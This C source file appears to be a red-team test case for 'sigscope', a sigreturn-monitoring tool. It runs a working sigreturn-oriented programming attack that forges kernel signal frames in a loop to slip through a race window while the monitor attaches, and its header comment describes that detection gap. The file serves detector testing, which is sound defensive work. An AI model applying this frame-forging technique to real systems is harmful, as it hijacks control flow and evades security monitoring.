/* SPDX-License-Identifier: GPL-2.0 OR BSD-2-Clause */
/*
 * srop_attach_window: forged sigreturns that keep coming while sigscope attaches (red team
 * round 17, a4b). Attach mode, but the attack does not wait for the go: once a thread older
 * than sigscope has learnt from one genuine delivery where the kernel puts a frame for a given
 * rsp, it loops on forged sigreturns, each frame exactly where get_sigframe() would have put one
 * for the rsp it restores, each higher on a 1 GiB thread stack than the last. Every hijacked
 * context runs the next attempt; the first one that runs after the go writes the marker.
 *
 * Why: between the attach of the sigreturn hooks and the end of the attach-time snapshot, an
 * older thread's unmatched frame was excused by its geometry alone (rules.bpf.h
 * geometric_excuse): 22 to 36 forged frames per run were judged preexisting_unmatched (low) and
 * ran, until the snapshot closed the window 1-2 ms later. A process can tell when that window
 * opens (every syscall gets dearer), so one shot is enough.
 *
 * Expected from sigscope: forged_frame >= critical for the pid, no preexisting_unmatched; under
 * --enforce, SIGKILL at the first forged frame it sees (no marker).
 */
#include "mal.h"

#include <pthread.h>

#define REGION (480UL << 20) /* of the thread's lazily mapped 1 GiB stack, climbed 4 KiB a try */

static struct k_rt_sigframe64 genuine;
static long frame_below_rsp; /* interrupted rsp - frame address, for rsps of the same residue */
static uint64_t next_rsp, region_top, region_low;
static void *restorer;
static volatile int go_seen;
static unsigned long tries;

static void note_frame(int sig, siginfo_t *info, void *ucv)
{
	struct k_rt_sigframe64 *f = mal_genuine_frame(ucv);

	(void)sig;
	(void)info;
	memcpy(&genuine, f, sizeof(genuine));
	frame_below_rsp = (long)(f->uc.uc_mcontext.rsp - (uint64_t)f);
}

static __attribute__((noreturn)) void attempt(void);

/* The hijacked context: after the go, the proof; before it, a pause of ~50 us and the next try. */
static __attribute__((noreturn, used, noinline, force_align_arg_pointer)) void hijacked(void)
{
	struct timespec a, b;

	if (go_seen)
		mal_pwned();
	clock_gettime(CLOCK_MONOTONIC, &a);
	do
		clock_gettime(CLOCK_MONOTONIC, &b);
	while ((b.tv_sec - a.tv_sec) * 1000000000L + (b.tv_nsec - a.tv_nsec) < 50000);
	attempt();
}

static __attribute__((noreturn)) void attempt(void)
{
	struct k_rt_sigframe64 *f;

	next_rsp += 4096; /* above the last: the geometric excuse's floor only rises */
	if (next_rsp + 4096 > region_top)
		mal_die(MAL_EXIT_NOTHING, "the stack region ran out before the go");
	/* The pages climbed past go back every 1,024 tries: the resident stack stays ~4 MiB. */
	if (++tries % 1024 == 0 && next_rsp - 65536 > region_low) {
		madvise((void *)(uintptr_t)region_low, next_rsp - 65536 - region_low,
			MADV_DONTNEED);
		region_low = next_rsp - 65536;
	}
	f = (struct k_rt_sigframe64 *)(next_rsp - (uint64_t)frame_below_rsp);
	mal_copy_frame(f, &genuine, (uint64_t)hijacked, next_rsp);
	f->uc.uc_mcontext.rbp = 0;
	f->uc.uc_stack.ss_sp = 0;
	f->uc.uc_stack.ss_size = 0;
	f->uc.uc_stack.ss_flags = SS_DISABLE;
	mal_sigreturn_via(f, restorer);
}

static void *looper(void *arg)
{
	volatile char *region = __builtin_alloca(REGION);
	uint64_t residue;

	(void)arg;
	region[0] = 0;
	mal_handle(SIGUSR1, note_frame, 0);
	mal_raise_here(SIGUSR1); /* one genuine delivery, returned from, before the attach */
	if (!frame_below_rsp)
		mal_die(MAL_EXIT_SETUP, "no genuine frame");
	/* The forged rsps keep the calibration rsp's residue mod 64 (get_sigframe() aligns). */
	residue = genuine.uc.uc_mcontext.rsp & 63;
	next_rsp = ((((uint64_t)(uintptr_t)region + 65536) & ~63ULL) | residue) - 4096;
	region_top = (uint64_t)(uintptr_t)region + REGION;
	region_low = ((uint64_t)(uintptr_t)region + 65536 + 4095) & ~4095ULL;
	attempt();
}

int main(void)
{
	pthread_attr_t attr;
	pthread_t t;
	sigset_t go;

	mal_init("srop_attach_window", 60);
	restorer = mal_libc_restorer();
	/* Only main takes the go: the looping thread inherits SIGUSR2 blocked. */
	sigemptyset(&go);
	sigaddset(&go, SIGUSR2);
	if (sigprocmask(SIG_BLOCK, &go, NULL))
		mal_die(MAL_EXIT_SETUP, "sigprocmask");
	if (pthread_attr_init(&attr) || pthread_attr_setstacksize(&attr, 1UL << 30) ||
	    pthread_create(&t, &attr, looper, NULL))
		mal_die(MAL_EXIT_SETUP, "pthread_create");
	mal_wait_go(); /* the runner attaches sigscope -p while the thread loops */
	go_seen = 1;
	mal_say("go after %lu forged sigreturns", tries);
	pthread_join(t, NULL); /* the thread writes the marker and exits the process */
	mal_die(MAL_EXIT_NOTHING, "the looping thread returned");
}
